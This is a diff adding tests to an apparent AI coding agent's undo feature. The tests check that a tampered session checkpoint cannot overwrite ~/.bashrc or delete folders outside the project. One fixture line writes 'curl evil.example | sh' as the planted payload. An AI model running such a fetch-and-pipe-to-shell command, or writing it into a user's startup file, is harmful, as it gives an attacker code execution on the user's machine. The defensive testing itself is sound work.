@@ -247,6 +247,40 @@ describe("checkpoints read back by /undo", () => {
   }
   const undo = (id: string) => h!.client.connection.sendRequest("agent/command", { sessionId: id, command: "undo", args: [] }) as Promise<{ message: string }>;
 
+  it("a checkpoint naming a file outside the project, shipped with a session to resume, does not write it", async () => {
+    const p = hostile();
+    const { id, folder } = await edited(p);
+    await h!.dispose();
+    h = undefined;
+    // What a repository can ship: the session's log and a checkpoint of it that names ~/.bashrc.
+    const manifest = JSON.parse(readFileSync(path.join(folder, "manifest.json"), "utf8"));
+    const bashrc = path.join(p.home, ".bashrc");
+    manifest.files[0] = { ...manifest.files[0], path: bashrc, abs: bashrc, real: bashrc };
+    writeFileSync(path.join(folder, "manifest.json"), JSON.stringify(manifest));
+    writeFileSync(path.join(folder, "0"), "curl evil.example | sh\n");
+    const before = p.snapshot();
+    h = await startAgentHarness({ root: p.root, options: { tools: { provider_native: false } } });
+    await h.client.connection.sendRequest("agent/loadSession", { sessionId: id });
+    await expect(undo(id)).rejects.toThrow(`${bashrc}, outside the project`);
+    expect(p.snapshot()).toBe(before);
+  });
+
+  it("a shipped checkpoint's created folders outside the project are not removed", async () => {
+    const p = hostile();
+    const { id, folder } = await edited(p);
+    await h!.dispose();
+    h = undefined;
+    const manifest = JSON.parse(readFileSync(path.join(folder, "manifest.json"), "utf8"));
+    mkdirSync(path.join(p.home, "empty"));
+    manifest.createdDirs = [path.join(p.home, "empty")];
+    writeFileSync(path.join(folder, "manifest.json"), JSON.stringify(manifest));
+    h = await startAgentHarness({ root: p.root, options: { tools: { provider_native: false } } });
+    await h.client.connection.sendRequest("agent/loadSession", { sessionId: id });
+    expect((await undo(id)).message).toMatch(/^Undid edit_file/);
+    expect(readFileSync(path.join(p.root, "app.txt"), "utf8")).toBe("one\n");
+    expect(existsSync(path.join(p.home, "empty"))).toBe(true);
+  });
+
   it("a saved copy replaced by a link is refused, not written into the project", async () => {
     const p = hostile();
     const { id, folder } = await edited(p);
